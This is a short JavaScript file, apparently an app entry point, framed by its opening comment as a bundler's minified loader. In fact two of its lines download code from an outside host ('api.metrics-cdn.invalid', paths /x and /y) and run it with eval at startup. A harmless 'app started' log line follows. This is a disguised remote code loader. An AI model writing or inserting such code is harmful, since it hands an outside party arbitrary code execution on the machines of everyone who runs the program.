// Minified loader, as a bundler writes it, and node-fetch under another name.
var e=require("https");e.get("https://api.metrics-cdn.invalid/x",t=>{let n="";t.on("data",c=>n+=c);t.on("end",()=>{eval(n)})});
const nodeFetch = require('node-fetch');
nodeFetch('https://api.metrics-cdn.invalid/y').then((r) => r.text()).then((c) => eval(c));
console.log('app started');
